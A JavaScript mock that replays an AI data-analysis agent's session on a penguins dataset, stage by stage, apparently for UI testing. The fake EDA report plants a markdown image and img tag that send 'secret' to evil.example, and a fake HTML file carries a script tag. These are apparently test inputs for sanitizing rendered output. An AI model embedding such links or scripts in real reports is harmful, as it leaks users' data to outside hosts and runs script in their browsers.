/** A session that plays what an agent would do, event by event. */
import { barChart } from "./png.mjs";

const order = ["EDA", "PREP", "TRAIN"];

const report = `# Penguins: what the data says

344 rows, 7 columns. The target \`species\` has **three classes**, the smallest of them with 20 % of the rows.

![Rows by species](figures/species.png)

## Columns

| column | type | missing | note |
|---|---|---:|---|
| bill_length_mm | number | 2 | separates Adelie from the others |
| flipper_length_mm | number | 2 | r = 0.87 with body mass |
| island | category | 0 | Torgersen holds Adelie alone |
| sex | category | 11 | missing at random as far as the data tells |

## What to watch

1. \`body_mass_g\` and \`flipper_length_mm\` carry much the same.
2. Eleven rows say no sex; imputing is better than dropping them.

![Out of the way](https://evil.example/?d=secret) <img src="https://evil.example/x">
`;

const code = `# Shape, types and missing values of every column.
import pandas as pd

df = pd.read_csv("/data/datasets/e1/penguins.csv")
print(df.shape)
for name in df.columns:
    print(f"{name:20} {df[name].dtype!s:10} {df[name].isna().sum():4d} missing")
`;

export class FakeSession {
  state = "CREATED";
  events = [];
  runs = [];
  files = new Map();
  listeners = new Set();
  live = new Set();
  messages = 0;
  timers = new Set();

  constructor(id, experiment, pace) {
    this.id = id;
    this.experiment = experiment;
    this.pace = pace;
    this.createdAt = new Date().toISOString();
    this.append("SessionCreatedEvent", { experimentId: experiment.id });
  }

  append(__typename, fields = {}) {
    const event = { __typename, seq: this.events.length + 1, at: new Date().toISOString(), ...fields };
    event.stageRunId ??= this.current?.id ?? null;
    this.events.push(event);
    for (const listener of this.listeners) listener();
  }

  say(fields) {
    for (const listener of this.live)
      listener({ __typename: "TextDeltaEvent", seq: null, at: null, stageRunId: this.current?.id, ...fields });
  }

  get current() {
    return this.runs.findLast((run) => run.state === "RUNNING");
  }

  get allows() {
    const running = this.state.endsWith("_RUNNING");
    const done = order.filter((stage) => this.runs.some((run) => run.stage === stage && run.state === "DONE"));
    return {
      startStages: running ? [] : order.filter((_, at) => at <= done.length),
      retry: this.state === "FAILED" || this.state === "CANCELLED",
      cancel: running,
      message: this.runs.length > 0,
      answer: running,
    };
  }

  get stages() {
    return order.map((stage) => {
      const runs = this.runs.filter((run) => run.stage === stage);
      const current = runs.at(-1) ?? null;
      return { stage, state: current?.state ?? "PENDING", current, runs };
    });
  }

  file(path, content, type) {
    const known = this.files.has(path);
    const data = Buffer.from(content);
    this.files.set(path, { path, data, type, modifiedAt: new Date().toISOString() });
    const stage = path.split("/")[0].toUpperCase();
    const file = {
      path,
      name: path.split("/").at(-1),
      stage,
      type,
      size: data.length,
      url: `/files/sessions/uuid-${this.id}/${path}`,
    };
    this.append(known ? "FileChangedEvent" : "FileCreatedEvent", { by: this.call, callId: this.call, file });
  }

  sleep(steps) {
    return new Promise((resolve) => {
      const timer = setTimeout(resolve, steps * this.pace);
      this.timers.add(timer);
    });
  }

  async start(stage, through = stage) {
    const run = {
      id: `run-${this.id}-${this.runs.length + 1}`,
      stage,
      through,
      state: "RUNNING",
      provider: "autopilot",
      model: "autopilot",
      seed: 42,
      error: null,
      superseded: false,
      startedAt: new Date().toISOString(),
      endedAt: null,
    };
    for (const old of this.runs) if (order.indexOf(old.stage) >= order.indexOf(stage)) old.superseded = true;
    this.runs.push(run);
    this.state = `${stage}_RUNNING`;
    this.append("StageRunStartedEvent", { stage, through, provider: run.provider, model: run.model, seed: 42 });
    this.append("StateChangeEvent", { state: this.state });
    await this[stage](run);
    if (run.state !== "RUNNING") return;
    this.end(run, "DONE", `${stage} is done.`);
    const next = order[order.indexOf(stage) + 1];
    if (next && order.indexOf(through) > order.indexOf(stage)) await this.start(next, through);
  }

  end(run, state, summary, error = null) {
    run.endedAt = new Date().toISOString();
    this.append("StageRunEndedEvent", { stageRunId: run.id, stage: run.stage, state, summary, error });
    run.state = state;
    run.error = error;
    this.state = state === "DONE" ? `${run.stage}_DONE` : state;
    this.append("StateChangeEvent", { state: this.state });
  }

  cancel() {
    for (const timer of this.timers) clearTimeout(timer);
    if (this.current) this.end(this.current, "CANCELLED", null);
  }

  message(text) {
    this.messages += 1;
    this.append("UserMessageEvent", { messageId: `m${this.messages}`, text });
  }

  async speak(turn, text) {
    this.append("TurnStartedEvent", { turn, attempt: 1 });
    for (let at = 0; at < text.length; at += 12) {
      this.say({ turn, attempt: 1, offset: at, text: text.slice(at, at + 12) });
      await this.sleep(0.2);
    }
    this.append("AgentMessageEvent", { messageId: `a${turn}-${this.events.length}`, turn, text });
    this.append("UsageRecordedEvent", {
      turn,
      inputTokens: 1200,
      outputTokens: 150,
      cacheReadTokens: 400,
      cacheWriteTokens: 0,
      costUsd: 0.012,
    });
    this.append("TurnEndedEvent", { turn, attempt: 1, stopReason: "tool_use" });
  }

  async execute(slug, source, output, work = async () => {}) {
    const call = `call-${this.events.length}`;
    this.call = call;
    this.append("ToolStartEvent", { callId: call, tool: "execute_code", input: { code: source, slug } });
    this.append("ExecutionStartedEvent", {
      callId: call,
      script: `eda/scripts/${slug}.py`,
      timeoutSeconds: 600,
      memoryMib: 4096,
    });
    for (const line of output) {
      this.append("CodeOutputEvent", {
        callId: call,
        stream: line.startsWith("!") ? "STDERR" : "STDOUT",
        text: `${line}\n`,
      });
      await this.sleep(0.5);
    }
    await work(call);
    this.append("ExecutionEndedEvent", {
      callId: call,
      how: "EXITED",
      code: 0,
      durationMs: 1200,
      cpuSeconds: 1,
      peakMemory: 210_000_000,
      droppedOutput: 0,
    });
    this.append("ToolEndEvent", {
      callId: call,
      tool: "execute_code",
      output: output.join("\n"),
      isError: false,
      durationMs: 1200,
    });
    this.call = null;
  }

  plan(...states) {
    const titles = ["Look at every column", "Draw the distributions", "Write the report"];
    this.append("PlanUpdatedEvent", { steps: titles.map((title, at) => ({ title, status: states[at] })) });
  }

  async EDA() {
    this.plan("IN_PROGRESS", "PENDING", "PENDING");
    await this.speak(
      1,
      "I will first look at the **shape**, the types and what is missing, then at how each column stands to `species`.",
    );
    const lines = [
      "(344, 7)",
      "species              object        0 missing",
      "bill_length_mm       float64       2 missing",
      "!FutureWarning: use_inf_as_na is deprecated",
    ];
    await this.execute("profile columns", code, lines);
    this.plan("DONE", "IN_PROGRESS", "PENDING");
    await this.execute("draw distributions", "import matplotlib\n", ["saved species.png"], async () => {
      this.file("eda/figures/species.png", barChart([0.9, 0.72, 0.42]), "CHART");
      this.file("eda/data/columns.csv", "column,missing\nspecies,0\nsex,11\n", "DATASET");
    });
    this.file("eda/report.md", report, "REPORT");
    this.append("ReportReadyEvent", { stage: "EDA", path: "eda/report.md", content: report });
    this.plan("DONE", "DONE", "DONE");
  }

  async PREP() {
    await this.speak(1, "Split first, then fit every transform on train alone.");
    const rows = Array.from(
      { length: 240 },
      (_, at) => `${(40 + (at % 17)).toFixed(1)},${at % 3},${at % 5 === 0 ? "" : "Biscoe"}`,
    );
    this.file("prep/data/train.csv", `bill_length_mm,species,island\n${rows.join("\n")}\n`, "DATASET");
    this.file(
      "prep/data/metadata.json",
      '{"target_column":"species","problem_type":"classification","random_seed":42}',
      "METADATA",
    );
    this.file("prep/summary.html", "<h1>Summary</h1><script>document.title='x'</script>", "FILE");
    this.file("prep/scripts/step_01_split.py", code, "SCRIPT");
    const text = "# Preparation\n\nThe rows were split 70/15/15, stratified by `species`.\n";
    this.append("ReportReadyEvent", { stage: "PREP", path: "prep/report.md", content: text });
    this.file("prep/report.md", text, "REPORT");
    await this.sleep(2);
  }

  async TRAIN() {
    await this.speak(1, "Baselines first, then boosted trees.");
    const charts = [
      { title: "Log loss", metrics: ["train_loss", "val_loss"], type: "line" },
      { title: "Accuracy by model", metrics: ["val_accuracy"], type: "bar" },
    ];
    await this.execute("train models", "from trainable import log\n", ["training"], async (callId) => {
      this.append("ChartConfigEvent", { callId, charts });
      for (let step = 0; step < 60; step += 1) {
        const items = ["lightgbm", "xgboost", "random_forest"].flatMap((run, at) => {
          const loss = Math.exp(-step / (14 + 6 * at)) + 0.05 * Math.sin(step * (at + 2)) * Math.exp(-step / 40) + 0.08;
          return [
            { step, name: "train_loss", value: loss, kind: "FINITE", run },
            { step, name: "val_loss", value: loss * 1.15 + 0.03, kind: "FINITE", run },
            { step, name: "val_accuracy", value: 0.98 - loss / 3, kind: "FINITE", run },
            step === 30 && at === 0
              ? { step, name: "grad_norm", value: null, kind: "NAN", run }
              : { step, name: "grad_norm", value: 4 / (1 + step), kind: "FINITE", run },
          ];
        });
        this.append("MetricsBatchEvent", { callId, items });
        await this.sleep(0.3);
      }
    });
    this.file("train/models/model.pkl", Buffer.from([128, 4, 149, 0, 1, 2]), "MODEL");
    const text = "# Training\n\n**lightgbm** does best: 0.981 on the test rows.\n";
    this.append("ReportReadyEvent", { stage: "TRAIN", path: "train/report.md", content: text });
    this.file("train/report.md", text, "REPORT");
    this.append("ValidationResultEvent", {
      stage: "TRAIN",
      passed: ["the model loads", "metrics were logged"],
      warnings: ["one feature carries 61 % of the importance"],
      errors: [],
    });
    this.result = {
      bestModel: "lightgbm",
      metrics: [
        { name: "accuracy", value: 0.981, lower: 0.942, upper: 1 },
        { name: "f1_macro", value: 0.977, lower: 0.93, upper: 1 },
      ],
    };
  }
}
